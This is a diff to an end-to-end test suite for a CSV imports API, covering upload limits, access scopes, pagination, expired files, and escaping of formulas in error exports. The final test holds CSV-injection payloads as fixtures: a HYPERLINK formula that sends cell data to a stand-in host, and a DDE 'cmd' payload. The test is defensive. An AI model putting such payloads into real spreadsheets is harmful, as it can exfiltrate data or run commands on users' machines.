@@ -1,8 +1,8 @@
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdtemp, readdir, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { waitFor } from '@pjs/testing';
-import { createImportServices, type ImportServices } from '../../src/imports/import-services';
+import { createImportServices, loadDbuConfig, type ImportServices } from '../../src';
 import { DbuWebContext, tokenHeader, type WebApp } from '../e2e/support/dbu-web';
 import { HEADER, csvLine, quietLogger } from './support/dbu-test-context';
 
@@ -22,16 +22,15 @@ describe('imports API (dbu-web)', () => {
     mediaDir = await mkdtemp(join(tmpdir(), 'dbu-media-'));
     web = await ctx.start({ MEDIA_DIR: mediaDir, UPLOAD_LIMIT_BYTES: String(LIMIT) });
     // Plays dbu-worker's part in-process (the worker itself is tested in worker.test.ts).
-    worker = createImportServices({
-      db: ctx.dataSource,
-      mediaDir,
-      logger: quietLogger(),
-      signalEnabled: false,
-      maxAttempts: 3,
-    });
+    worker = await createImportServices(
+      await loadDbuConfig({ DATABASE_URL: ctx.databaseUrl, MEDIA_DIR: mediaDir }),
+      ctx.dataSource,
+      quietLogger(),
+    );
   });
 
   afterAll(async () => {
+    await worker.close();
     await ctx.close();
     await rm(mediaDir, { recursive: true, force: true });
   });
@@ -148,13 +147,21 @@ describe('imports API (dbu-web)', () => {
       const announced = await upload(Buffer.concat([over, Buffer.alloc(LIMIT * 2, 0x41)]));
       expect(announced.status).toBe(413);
       expect(announced.body.code).toBe('payload_too_large');
+      // The partial file is gone and nothing was stored under the content's hash.
+      expect(await readdir(join(mediaDir, 'uploads', 'tmp'))).toEqual([]);
+      const runs = await ctx.dataSource.query(`SELECT count(*)::int AS n FROM import_runs WHERE file_size > $1`, [
+        LIMIT,
+      ]);
+      expect(runs[0].n).toBe(0);
+      // The connection stays usable after the refusal.
+      expect((await web.http().get('/api/imports/').set(admin())).status).toBe(200);
     });
 
     it('is for admins only (401 anonymous, 403 users)', async () => {
       expect((await web.http().post('/api/imports/').attach('file', csv([]), 'a.csv')).status).toBe(401);
       const forbidden = await web.http().post('/api/imports/').set(user()).attach('file', csv([]), 'a.csv');
       expect(forbidden.status).toBe(403);
-      expect(forbidden.body.code).toBe('admin_required');
+      expect(forbidden.body).toMatchObject({ code: 'insufficient_scope', scope: 'imports' });
     });
   });
 
@@ -165,6 +172,9 @@ describe('imports API (dbu-web)', () => {
       expect(all.body.count).toBeGreaterThanOrEqual(5);
       const page = await web.http().get('/api/imports/?status=succeeded&page_size=1').set(admin());
       expect(page.body).toMatchObject({ count: 1, page: 1, page_size: 1, results: [{ status: 'succeeded' }] });
+      expect(page.body).toMatchObject({ next: null, previous: null });
+      const first = await web.http().get('/api/imports/?page_size=2').set(admin());
+      expect(first.body.next).toMatch(/\/api\/imports\/\?page_size=2&page=2$/);
       expect((await web.http().get('/api/imports/?page=99').set(admin())).status).toBe(404);
       const bad = await web.http().get('/api/imports/?status=done&page_size=1000').set(admin());
       expect(bad.status).toBe(400);
@@ -287,5 +297,57 @@ describe('imports API (dbu-web)', () => {
     const res = await restricted.http().get('/api/imports/').set(admin());
     expect(res.status).toBe(403);
     expect(res.body.code).toBe('address_not_allowed');
+  });
+
+  describe('an import whose upload file expired', () => {
+    it('is still answered with its counts and rejected rows, file.stored false; the API says files expire', async () => {
+      const res = await upload(
+        csv([csvLine({ item_no: 'EXP-1', title: 'Bleibt' }), csvLine({ item_no: 'EXP-2', title: '' })]),
+      );
+      await worker.runner.execute(res.body.id, { finalAttempt: true });
+      const { sha256 } = res.body.file as { sha256: string };
+      // What dbu-cleanup does CLEANUP_OLDER_THAN after the upload (tested in cleanup-uploads.test.ts).
+      await rm(worker.media.uploadPath(sha256));
+      const detail = await web.http().get(`/api/imports/${res.body.id}/`).set(admin());
+      expect(detail.status).toBe(200);
+      expect(detail.body).toMatchObject({
+        status: 'succeeded',
+        file: { stored: false, sha256 },
+        counts: { new: 1, invalid: 1 },
+        rejected_rows: { count: 1 },
+      });
+      const errors = await web.http().get(`/api/imports/${res.body.id}/errors.csv`).set(admin());
+      expect(errors.status).toBe(200);
+      expect(errors.text).toContain('EXP-2');
+      const docs = await web.http().get('/api/docs/openapi.json').set(admin());
+      const documented = JSON.stringify(docs.body);
+      expect(documented).toContain('Its upload file expires after CLEANUP_OLDER_THAN');
+      expect(documented).toContain('dbu-cleanup deletes them CLEANUP_OLDER_THAN');
+    });
+  });
+
+  describe('GET /api/imports/:id/errors.csv', () => {
+    it('defuses formulas in the rejected-rows CSV (cells starting with = + - @ tab CR)', async () => {
+      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
+      const res = await upload(
+        csv([
+          csvLine({ item_no: 'CSV-INJ-1', title: '', manufacturer: formula, license: '@SUM(A1)', ek: '-2+3' }),
+          csvLine({ item_no: 'CSV-INJ-2', title: '', category: '+cmd|/C calc!A0', description: '\t=1' }),
+        ]),
+      );
+      expect(res.status).toBe(202);
+      await worker.runner.execute(res.body.id, { finalAttempt: true });
+      const errors = await web.http().get(`/api/imports/${res.body.id}/errors.csv`).set(admin());
+      expect(errors.status).toBe(200);
+      const text = errors.text.replace(/^\uFEFF/, '');
+      // No cell (unquoted or quoted) starts with a formula character any more.
+      const cells = text.match(/(?<=^|;|\r\n)("(?:[^"]|"")*"|[^;\r\n]*)/g) ?? [];
+      const unquoted = cells.map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
+      expect(unquoted.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(text).toContain(`"'${formula.replace(/"/g, '""')}"`);
+      expect(text).toContain(`"'@SUM(A1)"`);
+      expect(text).toContain(`"'+cmd|/C calc!A0"`);
+      expect(text).toContain(`"'\t=1"`);
+    });
   });
 });
